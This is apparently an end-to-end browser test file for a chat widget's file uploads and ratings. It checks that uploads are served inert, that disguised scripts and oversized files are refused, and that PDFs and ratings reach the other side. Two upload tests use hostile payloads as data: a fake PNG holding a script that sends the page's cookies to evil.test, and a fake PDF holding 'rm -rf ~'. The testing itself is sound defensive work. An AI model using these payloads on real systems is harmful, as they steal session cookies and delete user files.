/**
 * Files and ratings in Chromium with a real server (the demo with its team, which turns rating on):
 * a visitor's photo reaches the operator's panel and is served inert; a script renamed .png and a
 * file over 10 MB are refused with nothing kept; the operator's PDF reaches the visitor; a rating
 * asked for by the operator comes back Bad with a comment. Files are chosen through the paperclip
 * and the browser's file chooser, as a person would.
 */
import Database from 'better-sqlite3';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OPERATOR } from '../server/harness.js';
import { newPage, signIn, startE2E } from './browser.js';

let env: Awaited<ReturnType<typeof startE2E>>;

beforeAll(async () => {
  env = await startE2E({ demo: { ...OPERATOR, team: true } });
});
afterAll(async () => {
  await env?.close();
});

/** A real 1×1 PNG. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
/** A PDF of 2048 bytes. */
const PDF = (() => {
  const head = '%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n';
  const tail = '\n%%EOF\n';
  return Buffer.from(head + ' '.repeat(2048 - head.length - tail.length) + tail);
})();

const chatWindow = (page: Page) => page.locator('chat-launcher chat-window');
/** The conversation open in the operator's panel. */
const conversation = (operator: Page) => operator.locator('operator-panel section.conversation');

/** Chooses a file with the paperclip button in `scope`, through the browser's file chooser. */
async function attach(page: Page, scope: ReturnType<Page['locator']>, file: { name: string; mimeType: string; buffer: Buffer }) {
  const chooser = page.waitForEvent('filechooser');
  await scope.getByRole('button', { name: 'Attach a file' }).click();
  await (await chooser).setFiles(file);
}

/** The visitor opens the chat on the demo shop. */
async function openShop(): Promise<Page> {
  const visitor = await newPage(env.browser);
  await visitor.goto(`${env.server.url}/`);
  await visitor.getByRole('button', { name: 'Open chat' }).click();
  await chatWindow(visitor).getByLabel('Message').waitFor();
  return visitor;
}

async function visitorWrites(visitor: Page, text: string): Promise<void> {
  const composer = chatWindow(visitor).getByLabel('Message');
  await composer.fill(text);
  await composer.press('Enter');
  await chatWindow(visitor).locator('li.msg.mine:not([data-pending])').filter({ hasText: text }).waitFor();
}

/** Alex, signed in to the operator panel. */
async function alexSignsIn(): Promise<Page> {
  const operator = await newPage(env.browser);
  await signIn(operator, env.server, OPERATOR);
  return operator;
}

/** Alex opens the chat from its row in the inbox and accepts it. */
async function accept(operator: Page, visitor: Page, row: RegExp): Promise<void> {
  await operator.getByRole('navigation', { name: /conversations/i }).getByRole('button', { name: row }).first().click();
  await operator.getByRole('button', { name: 'Accept', exact: true }).click();
  await chatWindow(visitor).getByText('Alex joined the chat').waitFor();
}

/** What uploads left behind: rows in the files table and files in `<data>/files`. */
function stored(): { rows: number; files: number } {
  const db = new Database(join(env.server.dataDir, 'chat.db'), { readonly: true });
  try {
    const rows = (db.prepare('SELECT count(*) AS n FROM files').get() as { n: number }).n;
    const dir = join(env.server.dataDir, 'files');
    return { rows, files: existsSync(dir) ? readdirSync(dir).length : 0 };
  } finally {
    db.close();
  }
}

/** The uploads a page sends: POST /files requests. */
function watchUploads(page: Page): string[] {
  const uploads: string[] = [];
  page.on('request', (req) => {
    if (req.method() === 'POST' && new URL(req.url()).pathname === '/files') uploads.push(req.url());
  });
  return uploads;
}

const closeAll = (...pages: Page[]) => Promise.all(pages.map((p) => p.context().close()));

describe('files and rating, visitor and operator', () => {
  it('the visitor’s photo shows in the operator’s panel, served with its bytes under a sandbox policy', async () => {
    const operator = await alexSignsIn();
    const visitor = await openShop();
    await attach(visitor, chatWindow(visitor), { name: 'broken mug.png', mimeType: 'image/png', buffer: PNG });
    const mine = chatWindow(visitor).locator('li.msg.mine a.file.image img[alt="broken mug.png"]');
    await mine.waitFor();

    // The chat starts with the photo: its row in Alex's inbox names the file.
    await accept(operator, visitor, /📎 broken mug\.png/);
    const image = conversation(operator).locator('li.msg[data-author="visitor"] a.file.image img');
    await image.waitFor();
    expect(await image.getAttribute('alt')).toBe('broken mug.png');
    expect(await conversation(operator).locator('a.file.image').getAttribute('aria-label')).toBe('Open broken mug.png');
    // The panel's browser loaded and decoded it.
    await operator.waitForFunction(
      (img) => (img as HTMLImageElement).complete && (img as HTMLImageElement).naturalWidth === 1,
      await image.elementHandle(),
    );

    const src = (await image.getAttribute('src'))!;
    expect(new URL(src).origin).toBe(env.server.url);
    const res = await fetch(src);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/png');
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(Buffer.from(await res.arrayBuffer()).equals(PNG)).toBe(true);
    expect(await mine.getAttribute('src'), 'the visitor sees the same file').toBe(src);
    await closeAll(visitor, operator);
  });

  it('evil.png (a script) and a file over 10 MB are refused in the window, and nothing reaches the operator or the disk', async () => {
    const operator = await alexSignsIn();
    const visitor = await openShop();
    const uploads = watchUploads(visitor);
    await visitorWrites(visitor, 'Can I send you some pictures?');
    await accept(operator, visitor, /Can I send you some pictures/);
    const before = stored();

    await attach(visitor, chatWindow(visitor), {
      name: 'evil.png',
      mimeType: 'image/png',
      buffer: Buffer.from('<script>fetch("https://evil.test/?c=" + document.cookie)</script>'),
    });
    const error = chatWindow(visitor).locator('p.upload-error[role=alert]');
    await error.filter({ hasText: 'evil.png was not sent.' }).waitFor();
    expect(await error.textContent()).toBe('evil.png was not sent. Only images (JPG, PNG, GIF, WEBP) or PDF files can be sent');
    expect(uploads, 'the server was asked, and refused').toHaveLength(1);
    expect(stored(), 'no row and no file kept').toEqual(before);

    await attach(visitor, chatWindow(visitor), { name: 'big.png', mimeType: 'image/png', buffer: Buffer.alloc(10 * 1024 * 1024 + 1) });
    await error.filter({ hasText: 'big.png was not sent.' }).waitFor();
    expect(await error.textContent()).toBe('big.png was not sent. The file is larger than 10 MB');
    expect(uploads, 'the big file never left the browser').toHaveLength(1);
    expect(stored()).toEqual(before);
    expect(await chatWindow(visitor).locator('li.msg.mine').count(), 'only the question in the window').toBe(1);

    // A message sent after both reaches the operator; nothing came before it but the question.
    await visitorWrites(visitor, 'Never mind, I will describe it.');
    await conversation(operator).getByText('Never mind, I will describe it.').waitFor();
    const lines = conversation(operator).locator('li.msg[data-author="visitor"]');
    expect(await lines.allTextContents()).toEqual([
      expect.stringContaining('Can I send you some pictures?'),
      expect.stringContaining('Never mind, I will describe it.'),
    ]);
    expect(await conversation(operator).locator('.file').count()).toBe(0);
    expect(await conversation(operator).textContent()).not.toMatch(/evil\.png|big\.png/);
    expect(stored()).toEqual(before);
    await closeAll(visitor, operator);
  });

  it('the operator’s PDF reaches the visitor as a card; the operator asks for a rating and the visitor rates Bad', async () => {
    const operator = await alexSignsIn();
    const visitor = await openShop();
    await visitorWrites(visitor, 'I need a return label');
    await accept(operator, visitor, /I need a return label/);

    // A script named .pdf is refused, and the panel says why.
    await attach(operator, conversation(operator), { name: 'label.pdf', mimeType: 'application/pdf', buffer: Buffer.from('#!/bin/sh\nrm -rf ~\n') });
    const refused = conversation(operator).locator('p.action-error[role=alert]');
    await refused.waitFor();
    expect(await refused.textContent()).toBe('File not sent: Only images (JPG, PNG, GIF, WEBP) or PDF files can be sent');

    // The operator sends a PDF; the refusal goes away.
    await attach(operator, conversation(operator), { name: 'return label.pdf', mimeType: 'application/pdf', buffer: PDF });
    const card = chatWindow(visitor).locator('li.msg.theirs a.file.doc');
    await card.waitFor();
    expect(await card.locator('.file-name').textContent()).toBe('return label.pdf');
    expect((await card.locator('.file-meta').textContent())?.replace(/\s+/g, ' ')).toBe('PDF · 2 kB');
    expect(await card.getAttribute('aria-label')).toBe('Open return label.pdf');
    await conversation(operator).locator('li.msg[data-author="operator"] a.file.doc').filter({ hasText: 'return label.pdf' }).waitFor();
    expect(await refused.count()).toBe(0);
    expect(await chatWindow(visitor).locator('a.file').count(), 'only the PDF reached the visitor').toBe(1);
    const served = await fetch((await card.getAttribute('href'))!);
    expect(served.headers.get('content-type')).toBe('application/pdf');
    expect(served.headers.get('content-disposition')).toContain('attachment; filename="return label.pdf"');
    expect(Buffer.from(await served.arrayBuffer()).equals(PDF)).toBe(true);

    // The operator asks for a rating.
    const visitorName = (await conversation(operator).locator('h2').textContent())!.trim();
    await conversation(operator).getByRole('button', { name: 'Ask for rating' }).click();
    await conversation(operator).locator('.badge.rating.pending').filter({ hasText: 'Rating requested' }).waitFor();
    expect(await conversation(operator).getByRole('button', { name: 'Ask for rating' }).count(), 'asked once').toBe(0);
    await chatWindow(visitor).getByText('Alex asked you to rate this chat').waitFor();
    const rating = chatWindow(visitor).locator('chat-rating');
    await rating.getByRole('group', { name: 'How was this chat?' }).waitFor();
    const send = rating.getByRole('button', { name: 'Send rating' });
    expect(await send.getAttribute('aria-disabled')).toBe('true');

    // The visitor rates Bad with a comment.
    const bad = rating.getByRole('button', { name: 'Bad', exact: true });
    await bad.click();
    expect(await bad.getAttribute('aria-pressed')).toBe('true');
    expect(await rating.getByRole('button', { name: 'Good', exact: true }).getAttribute('aria-pressed')).toBe('false');
    // Bad's thumb points down (the thumb turned over), also under the demo page's strict CSP.
    const turn = (button: typeof bad) => button.locator('svg').evaluate((svg) => getComputedStyle(svg).transform);
    expect(await turn(rating.getByRole('button', { name: 'Good', exact: true }))).toBe('none');
    expect(await turn(bad)).toBe('matrix(-1, 0, 0, -1, 0, 0)');
    await rating.getByLabel('Add a comment (optional)').fill('The label link expired twice.');
    expect(await send.getAttribute('aria-disabled')).toBe('false');
    await send.click();

    const rated = chatWindow(visitor).locator('li.notice[data-event="rated"]');
    await rated.waitFor();
    expect(await rated.textContent()).toContain('You rated this chat Bad');
    expect(await rated.locator('q').textContent()).toBe('The label link expired twice.');
    await rating.waitFor({ state: 'detached' });

    // The panel shows the rating in the header and in the transcript.
    const badge = conversation(operator).locator('.badge.rating.bad');
    await badge.filter({ hasText: 'Rated Bad' }).waitFor();
    expect(await badge.getAttribute('title')).toBe('The label link expired twice.');
    expect(await conversation(operator).locator('.badge.rating.pending').count()).toBe(0);
    await conversation(operator)
      .locator('li.notice[data-event="rated"]')
      .filter({ hasText: `${visitorName} rated the chat Bad: “The label link expired twice.”` })
      .waitFor();
    await closeAll(visitor, operator);
  });
});
